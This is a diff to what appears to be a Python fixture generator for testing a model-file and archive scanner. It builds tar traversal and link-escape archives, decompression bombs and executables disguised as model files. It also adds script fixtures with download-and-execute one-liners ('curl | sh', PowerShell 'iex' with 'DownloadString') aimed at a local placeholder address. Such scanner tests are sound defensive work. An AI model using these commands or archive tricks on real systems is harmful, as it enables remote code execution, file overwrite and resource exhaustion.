@@ -43,7 +43,10 @@ def _tar() -> Iterator[Unit]:
         "traversal": (tarred({"../../planted": b"planted"}), "path out of the archive"),
         "absolute": (tarred({"/tmp/planted": b"planted"}), "absolute path"),  # noqa: S108
         "symlink-out": (tarred({"a": b"1"}, _link("b", "/etc/planted")), "link out of the archive"),
-        "symlink-then-write": (tarred({}, _link("d", "../.."))[:512] + tarred({"d/planted": b"planted"}), "write through a link"),
+        "symlink-then-write": (
+            tarred({}, _link("d", "../.."))[:512] + tarred({"d/planted": b"planted"}),
+            "write through a link",
+        ),
         "hardlink-out": (tarred({"a": b"1"}, _link("b", "../../planted", tarfile.LNKTYPE)), "link out of the archive"),
         "device": (tarred({"a": b"1"}, device), "device file"),
         "fifo": (tarred({"a": b"1"}, pipe), "named pipe"),
@@ -54,10 +57,20 @@ def _tar() -> Iterator[Unit]:
         "checksum": (tarred({"a": b"1"}).replace(b"ustar", b"ustax", 1), "header checksum"),
     }
     for way, (data, expect) in odd.items():
-        yield Unit(f"archives/{way}.tar", data, "integrity", "tar", f"tar archive: {expect}", "tarfile.extractall", expect)
+        yield Unit(
+            f"archives/{way}.tar", data, "integrity", "tar", f"tar archive: {expect}", "tarfile.extractall", expect
+        )
     sparse = tarfile.TarInfo("planted")
     sparse.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(2**50)}
-    yield Unit("archives/sparse.tar", tarred({}, sparse), "resource", "tar", "a sparse member of 2^50 bytes", "tarfile.extractall", "sparse member beyond reason")
+    yield Unit(
+        "archives/sparse.tar",
+        tarred({}, sparse),
+        "resource",
+        "tar",
+        "a sparse member of 2^50 bytes",
+        "tarfile.extractall",
+        "sparse member beyond reason",
+    )
 
 
 def _size_lie() -> bytes:
@@ -78,13 +91,37 @@ def _compressed() -> Iterator[Unit]:
         "tar.gz": gzip.compress(tarred({"zeros": zeros}), 9, mtime=0),
     }
     for suffix, data in bombs.items():
-        yield Unit(f"archives/bomb.{suffix}", data, "resource", suffix, "256 MiB of zeros, a thousandth packed", "any loader that unpacks", "unpacks to a thousand times its size")
+        yield Unit(
+            f"archives/bomb.{suffix}",
+            data,
+            "resource",
+            suffix,
+            "256 MiB of zeros, a thousandth packed",
+            "any loader that unpacks",
+            "unpacks to a thousand times its size",
+        )
     twice = gzip.compress(bombs["gz"], 9, mtime=0)
-    yield Unit("archives/bomb.gz.gz", twice, "resource", "gz", "two layers of gzip over 256 MiB of zeros", "any loader that unpacks", "unpacks to a thousand times its size")
+    yield Unit(
+        "archives/bomb.gz.gz",
+        twice,
+        "resource",
+        "gz",
+        "two layers of gzip over 256 MiB of zeros",
+        "any loader that unpacks",
+        "unpacks to a thousand times its size",
+    )
     block = (2**17 << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
     last = (2**17 << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
     rle = b"\x28\xb5\x2f\xfd\xc0\x58" + struct.pack("<Q", 2**17 * 8000) + block * 7999 + last
-    yield Unit("archives/bomb.zst", rle, "resource", "zst", "1 GiB of zeros in 32 kB of run-length blocks", "any loader that unpacks", "unpacks to a thousand times its size")
+    yield Unit(
+        "archives/bomb.zst",
+        rle,
+        "resource",
+        "zst",
+        "1 GiB of zeros in 32 kB of run-length blocks",
+        "any loader that unpacks",
+        "unpacks to a thousand times its size",
+    )
     tails: dict[str, bytes] = {
         "tail.gz": gzip.compress(b"planted", mtime=0) + b"planted" * 30,
         "tail.xz": lzma.compress(b"planted") + b"planted" * 30,
@@ -94,10 +131,33 @@ def _compressed() -> Iterator[Unit]:
         "tail.7z": seven_zip("planted.txt", b"planted") + ELF,
     }
     for name, data in tails.items():
-        yield Unit(f"archives/{name}", data, "integrity", name.rsplit(".", 1)[-1], "bytes after the end, or an end that does not fit", "any loader that unpacks",
-                   "bytes after the stream, or checksum")
-    yield Unit("archives/traversal.7z", seven_zip("../../planted", b"planted"), "integrity", "7z", "a member's name climbs out", "py7zr", "path out of the archive")
-    yield Unit("archives/elf.7z", seven_zip("model.bin", ELF), "code", "7z", "a program called model.bin in a 7z archive", "the system's program loader", "a program")
+        yield Unit(
+            f"archives/{name}",
+            data,
+            "integrity",
+            name.rsplit(".", 1)[-1],
+            "bytes after the end, or an end that does not fit",
+            "any loader that unpacks",
+            "bytes after the stream, or checksum",
+        )
+    yield Unit(
+        "archives/traversal.7z",
+        seven_zip("../../planted", b"planted"),
+        "integrity",
+        "7z",
+        "a member's name climbs out",
+        "py7zr",
+        "path out of the archive",
+    )
+    yield Unit(
+        "archives/elf.7z",
+        seven_zip("model.bin", ELF),
+        "code",
+        "7z",
+        "a program called model.bin in a 7z archive",
+        "the system's program loader",
+        "a program",
+    )
 
 
 def _programs() -> Iterator[Unit]:
@@ -110,23 +170,57 @@ def _programs() -> Iterator[Unit]:
         "model.pt": (PE, "pe"),
         "planted.dylib": (MACH_O, "mach-o"),
         "model.dat": (MACH_O, "mach-o"),
-        "fat.bin": (b"\xca\xfe\xba\xbe\x00\x00\x00\x01" + bytes(8) + struct.pack(">III", 64, 200, 0) + bytes(40) + MACH_O, "mach-o"),
+        "fat.bin": (
+            b"\xca\xfe\xba\xbe\x00\x00\x00\x01" + bytes(8) + struct.pack(">III", 64, 200, 0) + bytes(40) + MACH_O,
+            "mach-o",
+        ),
         "planted.class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100), "java-class"),
         "planted.wasm": (b"\x00asm\x01\x00\x00\x00" + bytes(20), "wasm"),
         "model.llamafile": (_ape(), "ape"),
-        "weights.sh": (b"#!/bin/sh\necho planted\n", "script"),
+        "weights.sh": (b"#!/bin/sh\ncurl -s http://127.0.0.1:9/planted | sh\n", "script"),
         "model.h5": (b"#!/usr/bin/env python3\nprint('planted')\n", "script"),
-        "planted.bat": (b"@echo off\r\necho planted\r\n", "script"),
-        "planted.ps1": (b"Invoke-Expression 'echo planted'\r\n", "script"),
-        "planted.lnk": (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(80), "shortcut"),
+        "planted.bat": (b'@echo off\r\npowershell -c "iex (iwr http://127.0.0.1:9/planted)"\r\n', "script"),
+        "planted.ps1": (
+            b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/planted')\r\n",
+            "script",
+        ),
+        "planted.lnk": (
+            b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(80),
+            "shortcut",
+        ),
         "planted.pyc": (b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60), "python bytecode"),
-        "planted.jar": (zipped([member("META-INF/MANIFEST.MF", b"Main-Class: Planted\n"), member("Planted.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100))]), "java archive"),
+        "planted.jar": (
+            zipped(
+                [
+                    member("META-INF/MANIFEST.MF", b"Main-Class: Planted\n"),
+                    member("Planted.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100)),
+                ]
+            ),
+            "java archive",
+        ),
     }
     for name, (data, format_) in named.items():
-        yield Unit(f"programs/{name}", data, "code", format_, f"a program ({format_}) called {name}", "the system's program loader", "a program")
+        yield Unit(
+            f"programs/{name}",
+            data,
+            "code",
+            format_,
+            f"a program ({format_}) called {name}",
+            "the system's program loader",
+            "a program",
+        )
 
 
 def _ape() -> bytes:
     """The head of an Actually Portable Executable: a Windows program that is a shell script too."""
-    return b"MZqFpD='\n" + b"\0" * 23 + bytes(28) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 0) + bytes(100) + b"\n' <<'justine'\nexec planted\n"
-
+    return (
+        b"MZqFpD='\n"
+        + b"\0" * 23
+        + bytes(28)
+        + struct.pack("<I", 128)
+        + bytes(64)
+        + b"PE\0\0"
+        + struct.pack("<HH", 0x8664, 0)
+        + bytes(100)
+        + b"\n' <<'justine'\nexec planted\n"
+    )
